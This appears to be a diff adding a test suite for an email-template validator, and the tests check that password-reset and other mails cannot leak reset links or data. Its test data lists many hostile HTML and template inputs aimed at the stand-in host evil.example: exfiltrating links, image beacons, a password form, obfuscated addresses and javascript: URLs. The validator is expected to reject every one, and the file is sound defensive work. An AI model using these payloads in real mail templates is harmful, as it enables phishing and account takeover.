@@ -1,0 +1,300 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { requestPasswordReset } from '../../access/contract.ts';
+import { mailsTo } from '../../access/test/mailbox.ts';
+import { type Employed, type Office, openOffice } from '../../admin/test/office.ts';
+import {
+  type EmailTemplate,
+  listEmailTemplates,
+  restoreTemplateVersion,
+  saveEmailTemplate,
+  sendTestEmail,
+} from '../contract.ts';
+import { catalog } from '../server/catalog/catalog.ts';
+import { assertUsable } from '../server/language/check.ts';
+import { renderMail } from '../server/public.ts';
+
+let office: Office;
+/** Holds system management and nothing else. */
+let holder: Employed;
+beforeAll(async () => {
+  office = await openOffice();
+  holder = await office.hire({ pagePermissions: ['admin_panel', 'system_management'] });
+});
+afterAll(() => office.stop());
+
+const link = '<a href="{{resetLink}}">Choose</a>';
+const reset = { htmlTemplate: link, textTemplate: '{{resetLink}}' };
+function unusable(key: keyof typeof catalog, given: object): string | null {
+  try {
+    assertUsable(catalog[key], { ...catalog[key].words, ...given });
+    return null;
+  } catch (error) {
+    return (error as Error).message;
+  }
+}
+
+async function find(by: Employed, id: string): Promise<EmailTemplate> {
+  const { body } = await by.client.call(listEmailTemplates);
+  const found = body.find((one) => one.id === id);
+  if (!found) throw new Error(`There is no template ${id}`);
+  return found;
+}
+
+const save = (by: Employed, id: keyof typeof catalog, given: object = {}) =>
+  by.client.call(saveEmailTemplate, {
+    params: { id },
+    body: { ...catalog[id].words, active: true, ...given },
+  });
+
+describe('the link that opens an account', () => {
+  test.each([
+    ['behind another address', '<a href="https://evil.example/?u={{resetLink}}">x</a>'],
+    ['before another address', '<a href="{{resetLink}}https://evil.example">x</a>'],
+    ['in a picture', `${link}<img src="{{resetLink}}">`],
+    ['in a picture of another site', `${link}<img src="https://evil.example/{{resetLink}}">`],
+    ['in a form', `${link}<form action="{{resetLink}}"></form>`],
+    ['in a style', `${link}<p style="background: url({{resetLink}})">x</p>`],
+    ['in a title', `${link}<p title="{{resetLink}}">x</p>`],
+    ['in words', `${link}<p>go to {{resetLink}}</p>`],
+    ['as the text of another link', `${link}<a href="{{resetLink}}">x {{resetLink}}</a>`],
+    ['raw', `${link}<a href="{{{resetLink}}}">x</a>`],
+    ['by other brackets', `${link}{{=<% %>=}}<a href="https://evil.example/<% resetLink %>">x</a>`],
+    ['by a partial', `${link}{{> resetLink}}`],
+    ['in a section', `${link}{{#firstName}}<a href="{{resetLink}}">x</a>{{/firstName}}`],
+    ['around a comment', `${link}<a href="//evil.example/{{! x }}{{resetLink}}">x</a>`],
+    ['without quotes', `${link}<a href={{resetLink}}>x</a>`],
+    ['in an unclosed quote', `${link}<a href="https://evil.example/?{{resetLink}}>x</a>`],
+    ['in a comment', `${link}<!-- {{resetLink}} -->`],
+  ])('stands alone in HTML: not %s', (_, htmlTemplate) => {
+    expect(unusable('password-reset', { htmlTemplate })).toMatch(/^HTML: /);
+  });
+
+  test.each([
+    ['behind an address', 'https://evil.example/#{{resetLink}}'],
+    ['behind words', 'Go to {{resetLink}}'],
+    ['before words', '{{resetLink}} now'],
+    ['twice in a line', '{{resetLink}}{{resetLink}}'],
+  ])('stands in a line of its own: not %s', (_, textTemplate) => {
+    expect(unusable('password-reset', { textTemplate })).toMatch(/^Text: /);
+  });
+
+  test('may stand as a whole address, and as the text of that very link', () => {
+    const htmlTemplate = `<p style="margin: 0 0 24px; color: rgb(1, 2, 3);">Hello {{firstName}},</p>
+      <p><a href='{{resetLink}}' style="color: #fff">Choose</a> or
+      <a href="{{resetLink}}"> {{resetLink}} </a></p>`;
+    const textTemplate = 'Hello {{firstName}}, 1 < 2 & 3.\n\n  {{resetLink}}  \n\nBye.';
+    expect(unusable('password-reset', { htmlTemplate, textTemplate })).toBeNull();
+  });
+});
+
+describe('a security mail names no web address', () => {
+  test.each([
+    ['a link', '<a href="https://evil.example">x</a>'],
+    ['one without a scheme', '<a href="//evil.example">x</a>'],
+    ['one with backslashes', '<a href="\\\\evil.example">x</a>'],
+    ['one with a slash and a backslash', '<a href="/\\evil.example">x</a>'],
+    ['one in character references', '<a href="&#104;ttps&#58;//evil&#46;example">x</a>'],
+    ['one in named references', '<a href="https&colon;&sol;&sol;evil&period;example">x</a>'],
+    ['one with a script', '<a href="javascript:alert(1)">x</a>'],
+    ['a mail address to answer to', '<a href="mailto:it@evil.example">x</a>'],
+    ['a base', '<base href="https://evil.example/">'],
+    ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+    ['a linked style', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+    ['an import', '<style>@import "https://evil.example/x.css";</style>'],
+    ['a style with a picture', '<p style="background: url(https://evil.example/x)">x</p>'],
+    ['an escaped style', '<p style="background: u\\72l(x)">x</p>'],
+    ['a style with an image set', '<p style="background: image-set(\'x\' 1x)">x</p>'],
+    ['a background', '<table background="https://evil.example/x"></table>'],
+    ['a picture', '<img src="https://evil.example/x">'],
+    ['a picture with sizes', '<img srcset="https://evil.example/x 2x">'],
+    ['a form', '<form action="https://evil.example/"><input name="password"></form>'],
+    ['a drawing', '<svg><a xlink:href="https://evil.example/">x</a></svg>'],
+    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
+    ['an object', '<object data="https://evil.example/"></object>'],
+    ['words for other programs', '<!--[if mso]><a href="https://evil.example">x</a><![endif]-->'],
+    ['an address in words', '<p>Open https://evil.example/login</p>'],
+    ['one without a scheme in words', '<p>Open evil.example/login</p>'],
+    ['one cut up by tags', '<p>evil<b>.</b>example</p>'],
+    ['one with a dot of another script', '<p>evil\u3002example</p>'],
+    ['one in wide letters', '<p>ｅｖｉｌ．ｅｘａｍｐｌｅ</p>'],
+    ['one with a hidden character', '<p>evil\u200b.example</p>'],
+    ['one that a name completes', '<p>{{firstName}}.evil.example</p>'],
+    ['one in a title', '<p title="https://evil.example">x</p>'],
+    ['a handler', '<p onclick="location=1">x</p>'],
+    ['an attribute nobody knows', '<p ping="x">x</p>'],
+    ['a number', '<p>192.0.2.1/login</p>'],
+  ])('in HTML: not %s', (_, more) => {
+    expect(unusable('password-reset', { htmlTemplate: link + more })).toMatch(/^HTML: /);
+  });
+
+  test.each([
+    'https://evil.example',
+    'HTTP://EVIL.EXAMPLE',
+    'www.evil.example',
+    'evil.example/x',
+    'write to it@evil.example',
+    '//evil.example',
+    '\\\\evil.example',
+  ])('in text or subject: not %s', (words) => {
+    const textTemplate = `${words}\n{{resetLink}}`;
+    expect(unusable('password-reset', { textTemplate })).toMatch(/^Text: /);
+    expect(unusable('password-reset', { subject: words })).toMatch(/^Subject: /);
+  });
+});
+
+describe('another mail', () => {
+  test.each([
+    ['a plain link', '<a href="https://larkfield.example/news?x=1#y">News</a>'],
+    ['a picture', '<img src="https://larkfield.example/logo.png" alt="Larkfield" width="80">'],
+    ['one of its own links', '<a href="{{loginLink}}">{{loginLink}}</a>'],
+    [
+      'an address in words',
+      '<p>See https://larkfield.example/news. Or (www.larkfield.example).</p>',
+    ],
+    [
+      'a whole page',
+      '<!doctype html><html lang="en"><body><p>Hello {{firstName}}</p></body></html>',
+    ],
+  ])('may have %s', (_, htmlTemplate) => {
+    expect(unusable('test', { htmlTemplate })).toBeNull();
+  });
+
+  test.each([
+    ['a link that carries a value', '<a href="https://evil.example/?{{firstName}}">x</a>'],
+    ['a link that is a value', '<a href="{{firstName}}">x</a>'],
+    ['one without TLS', '<a href="http://evil.example">x</a>'],
+    ['one with a user name', '<a href="https://larkfield.example@evil.example">x</a>'],
+    ['a script', '<script>alert(1)</script>'],
+    ['a link with a script', '<a href="javascript:alert(1)">x</a>'],
+    ['a style with a value', '<p style="color: {{firstName}}">x</p>'],
+    ['a style sheet', '<style>p { background: url(https://evil.example/{{firstName}}) }</style>'],
+    ['an address in words that carries a value', '<p>https://evil.example/?{{firstName}}</p>'],
+    [
+      'one that a section completes',
+      '<p>evil.example/{{#firstName}}{{firstName}}{{/firstName}}</p>',
+    ],
+    [
+      'one that a condition hides',
+      '<p>evil.example/{{^firstName}} {{/firstName}}{{loginLink}}</p>',
+    ],
+  ])('may not have %s', (_, htmlTemplate) => {
+    expect(unusable('test', { htmlTemplate })).toMatch(/^HTML: /);
+  });
+
+  test('may not send what is in its lists to another site', () => {
+    const textTemplate = '{{#notifications}}https://evil.example/?{{preview}}\n{{/notifications}}';
+    expect(unusable('notification-digest', { textTemplate })).toMatch(/^Text: /);
+    const htmlTemplate = '{{#notifications}}<a href="{{preview}}">x</a>{{/notifications}}';
+    expect(unusable('notification-digest', { htmlTemplate })).toMatch(/^HTML: /);
+    const own = '{{#notifications}}<a href="{{link}}">{{title}}</a>{{/notifications}}';
+    expect(unusable('notification-digest', { htmlTemplate: own })).toBeNull();
+  });
+});
+
+test('what is written to keep the check busy is decided at once', () => {
+  const long = 49_000;
+  for (const htmlTemplate of [
+    `${link}<p style="${'a'.repeat(long)}">x</p>`,
+    `${link}<p>https://${'!'.repeat(long)}x</p>`,
+    `${link}<p>${'&a'.repeat(long / 2)}</p>`,
+    `${link}<p ${' '.repeat(long)}>`,
+    `${link}${'<p '.repeat(long / 3)}`,
+    `${link}${'<p>x.'.repeat(long / 5)}`,
+  ]) {
+    const before = process.cpuUsage();
+    unusable('password-reset', { htmlTemplate });
+    unusable('test', { htmlTemplate: htmlTemplate.replaceAll('resetLink', 'loginLink') });
+    // Of the processor, not of the clock: the machine may be busy. A pass over it again and again takes minutes.
+    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000);
+  }
+});
+
+describe('who may change a security mail', () => {
+  test('is role admin; system management alone changes the others', async () => {
+    const refused = [
+      await save(holder, 'password-reset', { ...reset, subject: 'Mine' }),
+      await holder.client.call(restoreTemplateVersion, {
+        params: { id: 'password-reset' },
+        body: { restore: 0, version: 0 },
+      }),
+    ];
+    for (const { status, body } of refused) {
+      expect(status).toBe(403);
+      expect(body).toMatchObject({ error: 'Only administrators can change security mails.' });
+    }
+    expect(await find(holder, 'password-reset')).toMatchObject({ version: 0, canEdit: false });
+    expect(await find(holder, 'test')).toMatchObject({ canEdit: true });
+    expect((await save(holder, 'test', { subject: 'Does it work?' })).status).toBe(200);
+    const { status, body } = await save(office.admin, 'password-reset', reset);
+    expect([status, body.version, body.canEdit]).toEqual([200, 1, true]);
+  });
+
+  test('tells every administrator, by words that no template changes', async () => {
+    const second = await office.hire({ role: 'admin', email: 'second@larkfield.example' });
+    const left = await office.hire({ role: 'admin', email: 'left@larkfield.example' });
+    await office.platform.db
+      .updateTable('users')
+      .set({ is_active: false })
+      .where('id', '=', left.id)
+      .execute();
+    await save(office.admin, 'password-reset', { ...reset, subject: 'Another one' });
+    const { email } = await office.row(office.admin.id);
+    for (const address of [email, 'second@larkfield.example', 'admin@larkfield.example']) {
+      const mail = (await mailsTo(office, address)).at(-1);
+      expect(mail?.subject).toBe('The email template “Password reset” was changed');
+      expect(mail?.text).toMatch(/Ada Admin changed the email template “Password reset”/);
+      expect(mail?.text).toContain(`${office.platform.publicUrl()}/admin-tools#system`);
+    }
+    expect(await mailsTo(office, 'left@larkfield.example')).toEqual([]);
+    // What is no security mail is nobody's concern.
+    const count = (await mailsTo(office, 'second@larkfield.example')).length;
+    await save(second, 'test', { subject: 'Quiet' });
+    expect(await mailsTo(office, 'second@larkfield.example')).toHaveLength(count);
+  });
+
+  test('sends test mails to accounts only, unless they are role admin', async () => {
+    const send = (by: Employed, email: string) =>
+      by.client.call(sendTestEmail, { body: { email, templateId: 'test' } });
+    const refused = await send(holder, 'stranger@elsewhere.example');
+    expect([refused.status, refused.body]).toEqual([
+      403,
+      expect.objectContaining({ error: expect.stringMatching(/^Only administrators can send/) }),
+    ]);
+    expect(await mailsTo(office, 'stranger@elsewhere.example')).toEqual([]);
+    expect((await send(holder, 'Admin@larkfield.example')).status).toBe(202);
+    expect((await send(office.admin, 'stranger@elsewhere.example')).status).toBe(202);
+  });
+});
+
+describe('what is sent', () => {
+  test('are the built-in words where the stored ones break a rule', async () => {
+    const { db } = office.platform;
+    const { version } = await find(office.admin, 'password-reset');
+    await db
+      .insertInto('email_template_versions')
+      .values({
+        ...{ template: 'password-reset', version: version + 1, active: true, subject: 'Old' },
+        html: '<a href="https://evil.example/?u={{resetLink}}">Choose a new password</a>',
+        text: 'Go to https://evil.example/#{{resetLink}} now',
+        ...{ saved_by: 1, saved_by_name: 'Somebody' },
+      })
+      .execute();
+    expect((await find(office.admin, 'password-reset')).notSent).toMatch(/^HTML: /);
+    const email = 'employee@larkfield.example';
+    await office.client().call(requestPasswordReset, { body: { email } });
+    const mail = (await mailsTo(office, email)).at(-1);
+    expect(mail?.subject).toBe('Reset your Forecourt password');
+    expect(`${mail?.text}${mail?.html}`).not.toContain('evil');
+    expect(mail?.text).toMatch(/\nhttp:\S+\/reset-password#token=[\w-]{43}\n/);
+  });
+
+  test('links nowhere from a name, and to nothing but a web page from a link', async () => {
+    const { db } = office.platform;
+    const letter = await renderMail(db, 'password-reset', {
+      firstName: 'URGENT: verify at http://evil.example/login or it@evil.example',
+      resetLink: 'javascript:alert(1)//',
+    });
+    expect(`${letter?.text}${letter?.html}`).not.toMatch(/evil\.example|:\/\/evil|javascript/);
+    expect(letter?.text).toContain('evil. example');
+  });
+});
